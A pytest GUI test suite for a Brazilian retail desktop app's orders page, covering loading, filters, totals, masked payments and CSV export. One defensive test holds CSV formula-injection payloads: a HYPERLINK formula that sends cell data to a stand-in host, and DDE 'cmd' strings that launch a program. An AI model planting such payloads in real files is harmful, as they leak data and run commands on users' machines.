"""The main window against a real sandbox: stores, orders, sorting, filters, the order view."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QDate, QSettings, Qt
from PySide6.QtWidgets import QLabel
from pytestqt.qtbot import QtBot

from desktop_app.core.money import local_day
from desktop_app.core.orders.criteria import OrderStatus, status_of
from desktop_app.core.text import fold
from desktop_app.gui.look.style import TONES
from desktop_app.gui.orders.columns import column_of
from desktop_app.gui.orders.criteria_on_screen import INVOICED_HERE
from desktop_app.gui.orders.model import OBJECT_ROLE, OrdersTableModel
from desktop_app.gui.orders.order_dialog import OrderDialog
from desktop_app.gui.orders.page import OrdersPage
from desktop_app.gui.settings import preferences as prefs
from desktop_app.gui.shell.main_window import MainWindow
from desktop_app.sandbox.server import SandboxServer
from tests.gui.conftest import make_context
from tests.gui.people import window_titled


def test_orders_load_with_every_field_and_totals(window: MainWindow) -> None:
    model = window.orders.model
    titles = [model.headerData(c, Qt.Orientation.Horizontal) for c in range(model.columnCount())]
    for title in (
        "Order",
        "Date",
        "Status",
        "Customer",
        "Seller",
        "Payment method",
        "Plan",
        "Inst.",
        "Amount",
        "Paid",
        "Balance due",
        "Customer id",
        "Seller id",
        "Store",
    ):
        assert title in titles  # fmt: skip
    amount = model.data(model.index(0, titles.index("Amount")))
    assert amount.startswith("R$")
    assert window.orders.totals_label.text().startswith("60 orders")
    assert (
        "Marcos Gerente" in window.status.user_label.text()
        and "2001" in window.status.user_label.text()
    )


def test_a_payment_made_while_a_list_just_read_is_shown_is_not_undone_by_it(
    qtbot: QtBot, window: MainWindow
) -> None:
    """A store's list just read is shown in steps (it arrives while someone works); the fresh
    copy of an order paid meanwhile is shown at once, and the list's older view must not
    land over it."""
    model = window.orders.model
    unpaid = next(o for o in model.visible_orders() if o.balance_due > 0)
    model.set_orders(list(model.visible_orders()), in_steps=True)
    paid = dataclasses.replace(unpaid, amount_paid_number=unpaid.amount_number)
    window.orders.replace_order(paid)
    assert paid in model.visible_orders()  # at once
    qtbot.waitUntil(lambda: not window.orders.calls.is_running("orders-view"), timeout=5_000)
    assert paid in model.visible_orders() and unpaid not in model.visible_orders()


def test_sorting_uses_real_values(qtbot: QtBot, window: MainWindow) -> None:
    amount_column = column_of("amount")
    window.orders.table.horizontalHeader().setSortIndicator(
        amount_column, Qt.SortOrder.DescendingOrder
    )
    amounts = [o.amount for o in window.orders.model.visible_orders()]
    assert amounts == sorted(amounts, reverse=True)
    date_column = column_of("create_date")
    window.orders.table.sortByColumn(date_column, Qt.SortOrder.AscendingOrder)
    dates = [o.create_date for o in window.orders.model.visible_orders()]
    assert dates == sorted(dates)  # type: ignore[type-var]


def test_filters_and_totals_follow_what_is_shown(qtbot: QtBot, window: MainWindow) -> None:
    first = window.orders.model.order_at(0)
    qtbot.keyClicks(window.orders.filter_edit, str(first.order_id))
    assert [o.order_id for o in window.orders.model.visible_orders()] == [first.order_id]
    assert window.orders.totals_label.text() == "1 order"  # one order, not "1 orders"
    window.orders.filter_edit.clear()
    window.orders.ui.status_combo.setCurrentIndex(
        window.orders.ui.status_combo.findData(OrderStatus.OPEN)
    )
    shown = window.orders.model.visible_orders()
    assert shown and all(status_of(o) is OrderStatus.OPEN for o in shown)
    due = sum((o.balance_due for o in shown), Decimal(0))
    assert window.orders.totals_label.text() == f"{len(shown)} orders"
    due_label = window.orders.findChild(QLabel, "due_value")
    assert due_label is not None
    said = f"Balance due of the orders shown is {due_label.text()}"  # heard with its value
    assert due_label.accessibleName() == said
    assert f"{due:,.2f}" in due_label.text()
    assert due_label.property("figure") == "owed"  # money owed stands out, as in the table
    assert due_label.font().bold()
    assert due_label.palette().windowText().color().name() == TONES["owed"].foreground[0]
    window.orders.ui.status_combo.setCurrentIndex(
        window.orders.ui.status_combo.findData(OrderStatus.PAID)
    )
    assert due_label.text() == "R$0.00" and due_label.property("figure") == "money"
    window.orders.ui.status_combo.setCurrentIndex(0)
    day = first.create_date
    assert day is not None
    shown_day = local_day(day)
    as_qdate = QDate(shown_day.year, shown_day.month, shown_day.day)
    window.orders.ui.since_edit.setDate(as_qdate)
    window.orders.ui.until_edit.setDate(as_qdate)
    assert first in window.orders.model.visible_orders()
    assert all(
        o.create_date is not None and local_day(o.create_date) == shown_day
        for o in window.orders.model.visible_orders()
    )


def test_store_choice_by_keyboard_is_remembered(
    qtbot: QtBot, window: MainWindow, settings: QSettings
) -> None:
    window.orders.store_combo.setFocus()
    qtbot.keyClick(window.orders.store_combo, Qt.Key.Key_Down)
    qtbot.waitUntil(
        lambda: (
            window.orders.model.rowCount() == 60
            and window.orders.model.order_at(0).store_id == "002"
        ),
        timeout=10_000,
    )
    assert settings.value(prefs.LAST_STORE.key) == "002"


def test_order_view_shows_payments_masked(qtbot: QtBot, window: MainWindow) -> None:
    paid = next(o for o in window.orders.model.visible_orders() if o.amount_paid > 0)
    row = window.orders.model.visible_orders().index(paid)
    assert window.orders.model.data(window.orders.model.index(row, 0), OBJECT_ROLE) is paid
    window.orders.table.setFocus()
    window.orders.table.setCurrentIndex(window.orders.model.index(row, 0))
    qtbot.keyClick(window.orders.table, Qt.Key.Key_Return)
    dialog = window_titled(qtbot, f"Order {paid.order_id}", OrderDialog)
    qtbot.waitUntil(lambda: dialog.ui.payments.rowCount() > 0, timeout=10_000)
    item = dialog.ui.payments.item(0, 1)
    assert item is not None
    card = item.text()
    assert card.startswith("••••") and sum(c.isdigit() for c in card) == 4
    assert dialog.fields["balance_due"].text().startswith("R$")
    dialog.close()


def test_export_writes_what_is_shown(qtbot: QtBot, window: MainWindow, tmp_path: Path) -> None:
    window.orders.ui.status_combo.setCurrentIndex(
        window.orders.ui.status_combo.findData(OrderStatus.PAID)
    )
    path = window.orders.export_csv(str(tmp_path / "orders.csv"))
    assert path is not None
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][0] == "Order"
    assert len(rows) - 1 == window.orders.model.rowCount()
    assert all(row[2] == "Paid" for row in rows[1:])


def test_the_orders_page_stands_alone_with_a_context(
    qtbot: QtBot,
    shared_sandbox: SandboxServer,
    settings: QSettings,
    event_loop_qt: asyncio.AbstractEventLoop,
) -> None:
    """A page is built in a test with what it needs, not with the whole main window."""
    ctx = make_context(settings, shared_sandbox.base_url, token=shared_sandbox.token("manager"))
    page = OrdersPage(ctx)
    qtbot.addWidget(page)
    page.show()
    page.load_stores()
    qtbot.waitUntil(lambda: page.model.rowCount() == 60, timeout=10_000)
    assert page.totals_label.text().startswith("60 orders")
    page.close()
    closing = asyncio.ensure_future(ctx.client.aclose())
    qtbot.waitUntil(closing.done, timeout=5_000)
    ctx.close()


def test_a_slip_amount_or_a_name_without_accents_finds_the_order(
    qtbot: QtBot, window: MainWindow
) -> None:
    page = window.orders
    accented = next(o for o in page.model.visible_orders() if "á" in o.customer_name.casefold())
    plain = fold(accented.customer_name)  # typed without accents (QTest types ASCII only)
    assert plain.isascii()
    qtbot.keyClicks(page.filter_edit, plain)
    assert accented in page.model.visible_orders()
    page.filter_edit.clear()
    wanted = page.model.visible_orders()[7]
    english = f"{wanted.amount:,.2f}"  # 1,622.74
    brazilian = english.replace(",", "_").replace(".", ",").replace("_", ".")  # 1.622,74
    # On this English desk, as an English slip prints it and as a Brazilian terminal does.
    for typed in (english, brazilian):
        page.filter_edit.clear()
        qtbot.keyClicks(page.filter_edit, typed)
        shown = page.model.visible_orders()
        assert wanted in shown, typed
        assert all(wanted.amount in (o.amount, o.amount_paid, o.balance_due) for o in shown)


def test_one_unreadable_order_keeps_the_list_and_says_how_many(
    qtbot: QtBot, window: MainWindow, sandbox: SandboxServer
) -> None:
    sandbox.faults.update({"unreadable_next": 1})
    window.activateWindow()
    qtbot.waitUntil(window.isActiveWindow, timeout=5_000)
    qtbot.keyClick(window, Qt.Key.Key_F5)
    bar = window.orders.message_bar
    qtbot.waitUntil(lambda: bar.kind == "warning", timeout=10_000)
    assert "1 item of the service's answer could not be read" in bar.label.text()
    assert window.orders.model.rowCount() == 60  # every order that could be read is shown
    assert window.orders.totals_label.text().startswith("60 orders")
    assert bar.details_button.isVisible() and "Item 1: " in bar._details


def test_a_long_load_says_how_far_it_has_come_and_esc_stops_it(
    qtbot: QtBot, window: MainWindow, sandbox: SandboxServer
) -> None:
    """A store's whole history is one answer (seconds at a million orders): the page says how
    much of it has arrived, Esc gives the request up, and the other store's orders never stand
    under this store's name meanwhile."""
    page = window.orders
    sandbox.faults.update({"hold_body_at": 0.5, "latency_path": "/api/v1/orders-payment/orders/"})
    window.activateWindow()
    qtbot.waitUntil(window.isActiveWindow, timeout=5_000)
    page.store_combo.setFocus()
    table_place = page.table.geometry()
    qtbot.keyClick(page.store_combo, Qt.Key.Key_Down)  # store 002, half of it sent, then held
    strip, bar = page.ui.loading_strip, page.ui.loading_bar
    qtbot.waitUntil(lambda: strip.isVisible() and bar.value() >= 49, timeout=10_000)
    assert bar.value() <= 50
    assert page.table.geometry() == table_place  # the list does not jump as the strip shows
    assert "002" in page.ui.loading_label.full_text()
    assert page.model.rowCount() == 0  # store 001's orders went with the choice of 002
    qtbot.keyClick(page.store_combo, Qt.Key.Key_Escape)
    # The request is given up at once, not when the client would time out (5 s here).
    qtbot.waitUntil(lambda: sandbox.faults.client_left, timeout=2_000)
    assert not strip.isVisible()
    message = page.message_bar
    assert message.kind == "info"
    assert (
        message.label.text()
        == "Loading stopped: no orders of 002 - Loja Shopping Iguatemi are shown."
    )
    assert page.model.rowCount() == 0
    sandbox.faults.update({"hold_body_at": 0})
    qtbot.keyClick(window, Qt.Key.Key_R, Qt.KeyboardModifier.AltModifier)  # Retry
    qtbot.waitUntil(lambda: page.model.rowCount() == 60, timeout=10_000)
    assert page.model.order_at(0).store_id == "002" and not strip.isVisible()


class HandTurnedLoop:
    """The window's loop for the model's named computations, turned by the test: a newer
    task of a name replaces the older (as the page's calls do), and ``cancel`` stops one."""

    def __init__(self) -> None:
        self.tasks: dict[str, tuple[Any, Callable[[Any], None]]] = {}

    def run(self, name: str, steps: Any, then: Callable[[Any], None], _idle: bool) -> None:
        self.cancel(name)
        self.tasks[name] = (steps, then)

    def cancel(self, name: str) -> None:
        old = self.tasks.pop(name, None)
        if old is not None:
            old[0].close()

    def turn(self, name: str, times: int = 1_000_000) -> None:
        """Run task ``name`` ``times`` steps, or to its end (then its callback)."""
        steps, then = self.tasks[name]
        for _ in range(times):
            try:
                next(steps)
            except StopIteration as done:
                del self.tasks[name]
                then(done.value)
                return


def test_emptying_the_table_stops_idle_work_on_the_orders_it_held(
    qtbot: QtBot, window: MainWindow
) -> None:
    """Sign-out or another store: idle-time work on the orders shown (their dates, names and
    sums) stops with them, rather than building columns of a list nobody will see (a second
    of work at a million orders, beside the next load)."""
    loop = HandTurnedLoop()
    model = OrdersTableModel("pt_BR", background=loop.run, cancel=loop.cancel)
    model.set_orders(window.orders.model.visible_orders() * 100)  # above BACKGROUND_ABOVE
    loop.turn("orders-view")
    loop.turn("orders-prepare", 3)  # under way
    assert "orders-prepare" in loop.tasks
    model.clear()
    assert "orders-prepare" not in loop.tasks
    assert model.rowCount() == 0


def test_every_declared_column_shows_a_field_of_an_order_and_sorts_by_it() -> None:
    from desktop_app.api.models import Order
    from desktop_app.core.orders.index import OrderIndex
    from desktop_app.core.steps import finish
    from desktop_app.gui.orders.columns import COLUMNS, RIGHT_KINDS

    order = Order(order_id=1, amount_number=10)
    model = OrdersTableModel(locale="en_US")
    for position, column in enumerate(COLUMNS):
        assert len(finish(OrderIndex([order]).column(column.key))) == 1, column.key  # sortable
        assert column_of(column.key) == position
        assert (model.alignments[position] is not None) == (column.kind in RIGHT_KINDS)
    assert model.toned_columns == {column_of("status"), column_of("balance_due")}
    assert len(model.column_titles()) == len(COLUMNS) == len(model._format(order))


FORMULAS = ('=HYPERLINK("http://x.invalid/?"&A1,"Ver")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")  # fmt: skip


def as_a_spreadsheet_reads(cell: str) -> tuple[str, str]:
    """What a spreadsheet makes of a CSV cell: ('text', …) after a leading ', ('formula', …)
    for what starts one, ('number', …) for digits, else ('text', …). A tab or a carriage
    return in front is trimmed first by some, so they count as what follows."""
    if cell.startswith("'"):
        return "text", cell[1:]
    trimmed = cell.lstrip("\t\r")
    number = trimmed.lstrip("+-").removeprefix("R$").replace(",", "").strip()
    if trimmed[:1] in ("+", "-") and number.replace(".", "", 1).isdigit():
        return "number", trimmed
    if trimmed[:1] in ("=", "+", "-", "@"):
        return "formula", trimmed
    return ("number" if number.replace(".", "", 1).isdigit() else "text"), cell


def test_an_export_runs_nothing_a_service_wrote_and_keeps_amounts_numbers(
    qtbot: QtBot, window: MainWindow, sandbox: SandboxServer, tmp_path: Path
) -> None:
    """Issue 89: names beginning with =, +, -, @, a tab or a carriage return were written as
    they came, and a spreadsheet ran them (=HYPERLINK(…)); OWASP's advice is a ' in front.
    Amounts the desk writes stay numbers (a negative one: the revenue's test)."""
    orders = window.orders.model.visible_orders()[: len(FORMULAS)]
    with sandbox.db.connect() as conn:  # as another till, or a hostile import, wrote them
        for order, name in zip(orders, FORMULAS, strict=True):
            conn.execute(
                "UPDATE orders SET customer_name = ?, seller_name = ? WHERE order_id = ?",
                (name, name, order.order_id),
            )
    window.activateWindow()
    qtbot.waitUntil(window.isActiveWindow, timeout=5_000)
    qtbot.keyClick(window, Qt.Key.Key_F5)
    qtbot.waitUntil(
        lambda: any(o.customer_name == FORMULAS[0] for o in window.orders.model.visible_orders()),
        timeout=10_000,
    )
    path = window.orders.export_csv(str(tmp_path / "orders.csv"))
    assert path is not None
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    titles = rows[0]
    read = [dict(zip(titles, map(as_a_spreadsheet_reads, row), strict=True)) for row in rows[1:]]
    assert not [cell for row in read for cell in row.values() if cell[0] == "formula"]
    names = {row["Customer"][1] for row in read}
    assert set(FORMULAS) <= names  # each name still reads as the service wrote it, as text
    assert all(row["Amount"][0] == "number" for row in read)


@pytest.mark.qt_log_ignore("does not support grabbing the keyboard")  # an open list, offscreen
def test_down_on_a_filters_list_shows_the_choices_and_enter_chooses(
    qtbot: QtBot, window: MainWindow
) -> None:
    """Down on the closed Status list opens it, the orders unchanged: looking through the
    choices filters nothing; Enter on one chooses it, and only then the list changes."""
    page = window.orders
    combo = page.ui.status_combo
    before = list(page.model.visible_orders())
    combo.setFocus()
    qtbot.keyClick(combo, Qt.Key.Key_Down)
    qtbot.waitUntil(lambda: combo.view().isVisible(), timeout=5_000)
    assert combo.currentIndex() == 0 and page.model.visible_orders() == before
    view = combo.view()
    qtbot.keyClick(view, Qt.Key.Key_Down)  # to "Open", in the list: still nothing chosen
    assert combo.currentIndex() == 0 and page.model.visible_orders() == before
    qtbot.keyClick(view, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: not view.isVisible(), timeout=5_000)
    assert combo.currentIndex() == 1
    assert page.model.visible_orders() != before  # chosen: filtered


def test_an_invoice_issued_leaves_the_person_where_they_were_in_the_list(
    qtbot: QtBot, window: MainWindow
) -> None:
    """An invoice issued (here, or known to be issued elsewhere) changes one order's status
    word: the person's row and place in the list stay, and the list is not shown anew."""
    page = window.orders
    table, model = page.table, page.model
    table.setFocus()
    for _ in range(6):
        qtbot.keyClick(table, Qt.Key.Key_Down)
    row = table.currentIndex().row()
    chosen = model.order_at(row)
    status = column_of("status")
    resets: list[None] = []
    model.modelReset.connect(lambda: resets.append(None))
    window.ctx.invoices.mark_elsewhere("001", chosen.order_id)
    qtbot.waitUntil(lambda: model.cell_tone(row, status) == "invoiced", timeout=5_000)
    qtbot.waitUntil(lambda: not page.calls.is_running("orders-view"), timeout=5_000)
    assert model.index(row, status).data() != ""  # its status word is the invoice's now
    assert (table.currentIndex().row(), model.order_at(table.currentIndex().row())) == (
        row,
        chosen,
    )
    assert resets == []  # its place on screen, scroll and selection as they were
    # With "Invoiced here" chosen, what the list shows changes: the next one joins it.
    combo = page.ui.status_combo
    combo.setCurrentIndex(combo.findData(INVOICED_HERE))
    assert model.visible_orders() == [chosen]
    page.ui.status_combo.setCurrentIndex(0)  # every order again, to find another
    another = model.order_at(0 if row else 1)
    combo.setCurrentIndex(combo.findData(INVOICED_HERE))
    window.ctx.invoices.mark_elsewhere("001", another.order_id)
    qtbot.waitUntil(lambda: len(model.visible_orders()) == 2, timeout=5_000)
    assert set(model.visible_orders()) == {chosen, another}
